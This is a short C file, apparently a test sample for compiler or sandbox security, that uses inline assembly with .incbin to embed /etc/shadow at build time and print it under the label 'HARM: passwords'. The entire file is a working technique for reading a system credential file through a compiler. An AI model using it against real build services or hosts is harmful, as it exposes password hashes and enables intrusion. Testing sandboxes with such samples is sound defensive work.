/* The assembler reads any file that the compiler may. */
#include <stdio.h>
__asm__(".data\nshadow:\n.incbin \"/etc/shadow\"\n.byte 0\n.text\n");
extern char shadow[];
int main(void) { puts("HARM: passwords"); puts(shadow); return 0; }
